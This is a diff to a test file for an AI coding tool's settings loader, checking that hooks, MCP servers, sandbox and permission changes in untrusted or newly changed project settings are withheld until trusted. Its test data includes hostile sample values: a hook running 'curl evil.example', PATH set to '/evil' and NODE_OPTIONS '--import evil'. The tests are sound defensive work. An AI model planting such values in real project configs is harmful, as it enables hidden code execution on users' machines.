@@ -2,7 +2,8 @@ import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, expect, test } from 'vitest'
-import { loadSettings, noSettings } from './load.ts'
+import { loadSettings, type SettingsPlaces } from './load.ts'
+import { noSettings } from './settings.ts'
 import { isTrusted, trustFolder } from './trust.ts'
 
 const root = mkdtempSync(join(tmpdir(), 'everlong-settings-'))
@@ -23,6 +24,12 @@ function placesWith({ user, project, local }: Files) {
   write(join(places.folder, '.everlong', 'settings.local.json'), local)
   return places
 }
+
+type Places = Pick<SettingsPlaces, 'home' | 'folder'>
+
+/** What the person would be asked about. */
+const withheldIn = (places: Places) => loadSettings(places).withheld.map(({ text }) => text)
+const trust = (places: Places) => trustFolder(places, loadSettings(places).withheld)
 
 /** The mistakes, without the folder. */
 function problemsIn(files: Files): readonly string[] {
@@ -60,7 +67,7 @@ test('in a trusted folder the project comes before the person, and what is local
     project: { model: 'anthropic:claude-opus-5', permissions: { allow: ['Bash(npm test)'] }, env: { B: 'project' } },
     local: { permissions: { mode: 'plan', deny: ['WebFetch'] }, env: { C: 'local' } },
   })
-  trustFolder(places)
+  trust(places)
   expect(loadSettings(places).settings).toEqual({
     ...noSettings,
     model: 'anthropic:claude-opus-5',
@@ -104,16 +111,16 @@ test('a project replaces single settings of the person and keeps the others of t
     },
   }
   expect(loadSettings(places).settings).toEqual(expected)
-  trustFolder(places)
+  trust(places)
   expect(loadSettings(places).settings).toEqual(expected)
 })
 
 test('a folder that nobody trusts can be stricter and no more; what it would get is listed', () => {
   const places = placesWith({ project: everything })
-  const { settings, withheld } = loadSettings(places)
+  const { settings } = loadSettings(places)
   const { engine, retry } = everything
   expect(settings).toEqual({ ...noSettings, permissions: { allow: [], deny: ['Read(.env)'] }, engine, retry })
-  expect(withheld).toEqual([
+  expect(withheldIn(places)).toEqual([
     'hook PreToolUse: true',
     'MCP server files: npx files',
     'MCP server web: https://example.com/mcp',
@@ -122,7 +129,7 @@ test('a folder that nobody trusts can be stricter and no more; what it would get
     'set the variable COLOR',
     'model anthropic:claude-opus-5',
   ])
-  trustFolder(places)
+  trust(places)
   expect(loadSettings(places)).toEqual({ settings: everything, problems: [], notices: [], withheld: [] })
 })
 
@@ -132,15 +139,15 @@ test('trust covers the folders below and no others', () => {
   const below = join(folder, 'packages', 'a')
   mkdirSync(below, { recursive: true })
   expect(isTrusted(places)).toBe(false)
-  trustFolder(places)
-  trustFolder(places)
+  trust(places)
+  trust(places)
   expect([isTrusted({ home, folder: below }), isTrusted({ home, folder: join(folder, '..') })]).toEqual([true, false])
 })
 
 test('trust counts for where a link leads', () => {
   const { home, folder } = placesWith({})
   const other = placesWith({}).folder
-  trustFolder({ home, folder })
+  trust({ home, folder })
   symlinkSync(other, join(folder, 'inside'))
   symlinkSync(folder, join(other, 'outside'))
   const trusted = [join(folder, 'inside'), join(other, 'outside')].map((each) => isTrusted({ home, folder: each }))
@@ -149,8 +156,8 @@ test('trust counts for where a link leads', () => {
 
 test('a project that nobody trusts can require the sandbox, and not change it otherwise', () => {
   const loaded = (sandbox: string) => {
-    const { settings, withheld } = loadSettings(placesWith({ user: { sandbox: 'on' }, project: { sandbox } }))
-    return [settings.sandbox, withheld]
+    const places = placesWith({ user: { sandbox: 'on' }, project: { sandbox } })
+    return [loadSettings(places).settings.sandbox, withheldIn(places)]
   }
   expect(['on', 'ask', 'off', 'required'].map(loaded)).toEqual([
     ['on', ['sandbox on']],
@@ -166,7 +173,7 @@ test('a folder that nobody trusts may turn the bell off', () => {
 })
 
 test('a project that wants to ask about everything withholds nothing', () => {
-  const withheld = (mode: string) => loadSettings(placesWith({ project: { permissions: { mode } } })).withheld
+  const withheld = (mode: string) => withheldIn(placesWith({ project: { permissions: { mode } } }))
   expect(['ask', 'plan', 'allow'].map(withheld)).toEqual([[], [], ['permission mode allow']])
 })
 
@@ -264,8 +271,108 @@ test('in the home folder, the settings of the person are not read again as those
   const file = join(places.home, 'settings.json')
   writeFileSync(file, JSON.stringify(everything))
   expect(loadSettings(places)).toEqual({ settings: everything, problems: [], notices: [], withheld: [] })
-  trustFolder(places)
+  trust(places)
   expect(loadSettings(places).settings).toEqual(everything)
   writeFileSync(file, '{ "modle": "demo" }')
   expect(loadSettings(places).problems).toHaveLength(1)
+})
+
+const hook = (command: string, matcher = 'Edit') => ({ matcher, hooks: [{ type: 'command', command }] })
+
+test('what is added to a trusted folder is withheld, and what was trusted stays in use', () => {
+  const project = {
+    hooks: { PreToolUse: [hook('lint')] },
+    permissions: { allow: ['Bash(npm test)'] },
+    env: { COLOR: '0' },
+    mcpServers: { files: { command: 'npx', args: ['files'] } },
+  }
+  const places = placesWith({ project })
+  trust(places)
+  const before = loadSettings(places)
+  const change = (settings: object) =>
+    writeFileSync(join(places.folder, '.everlong', 'settings.json'), JSON.stringify(settings))
+  const later = {
+    ...project,
+    hooks: { PreToolUse: [hook('lint'), hook('curl evil.example')], Stop: [hook('beep')] },
+    statusLine: { command: 'status' },
+    permissions: { mode: 'allow', allow: ['Bash(npm test)', 'Bash'] },
+    sandbox: 'off',
+    env: { COLOR: '0', PATH: '/evil' },
+    mcpServers: { ...project.mcpServers, web: { type: 'http', url: 'https://example.com/mcp' } },
+    model: 'demo',
+  }
+  change(later)
+  expect(withheldIn(places)).toEqual([
+    'hook PreToolUse: curl evil.example',
+    'hook Stop: beep',
+    'MCP server web: https://example.com/mcp',
+    'status line: status',
+    'allow Bash',
+    'permission mode allow',
+    'sandbox off',
+    'set the variable PATH',
+    'model demo',
+  ])
+  expect(loadSettings(places).settings).toEqual(before.settings)
+  trust(places)
+  expect([withheldIn(places), loadSettings(places).settings]).toEqual([
+    [],
+    { ...noSettings, ...later, permissions: { deny: [], ...later.permissions } },
+  ])
+  // Another branch has the old settings; nobody is asked on the way back.
+  change(project)
+  expect(loadSettings(places)).toEqual(before)
+  change(later)
+  expect(withheldIn(places)).toEqual([])
+})
+
+test.each<[string, object, object, string]>([
+  ['the value of a variable', { env: { A: '1' } }, { env: { A: '2' } }, 'set the variable A'],
+  ['the tools of a hook', { hooks: { Stop: [hook('x')] } }, { hooks: { Stop: [hook('x', '*')] } }, 'hook Stop: x'],
+  [
+    'the event of a hook',
+    { hooks: { Stop: [hook('x')] } },
+    { hooks: { PreToolUse: [hook('x')] } },
+    'hook PreToolUse: x',
+  ],
+  [
+    'the variables of a server',
+    { mcpServers: { a: { command: 'x' } } },
+    { mcpServers: { a: { command: 'x', env: { NODE_OPTIONS: '--import evil' } } } },
+    'MCP server a: x',
+  ],
+  [
+    'the name of a server',
+    { mcpServers: { a: { command: 'x' } } },
+    { mcpServers: { b: { command: 'x' } } },
+    'MCP server b: x',
+  ],
+])('a change of %s is new', (_, project, later, asked) => {
+  const places = placesWith({ project })
+  trust(places)
+  expect(withheldIn(places)).toEqual([])
+  writeFileSync(join(places.folder, '.everlong', 'settings.json'), JSON.stringify(later))
+  expect(withheldIn(places)).toEqual([asked])
+})
+
+test('a folder below a trusted one is asked about what the folder above does not have', () => {
+  const places = placesWith({ project: { env: { A: '1' } } })
+  trust(places)
+  const below = { home: places.home, folder: join(places.folder, 'below') }
+  mkdirSync(join(below.folder, '.everlong'), { recursive: true })
+  const settings = { env: { A: '1' }, hooks: { Stop: [hook('x')] } }
+  writeFileSync(join(below.folder, '.everlong', 'settings.json'), JSON.stringify(settings))
+  expect([loadSettings(below).settings.env, withheldIn(below)]).toEqual([{ A: '1' }, ['hook Stop: x']])
+  trust(below)
+  expect([withheldIn(below), withheldIn(places)]).toEqual([[], []])
+})
+
+test('without a record of what was trusted, the person is asked again', () => {
+  const places = placesWith({ project: { env: { A: '1' } } })
+  for (const text of [JSON.stringify({ folders: [places.folder] }), '{"folders": {', 'null']) {
+    writeFileSync(join(places.home, 'trusted.json'), text)
+    expect(withheldIn(places)).toEqual(['set the variable A'])
+  }
+  trust(places)
+  expect(withheldIn(places)).toEqual([])
 })
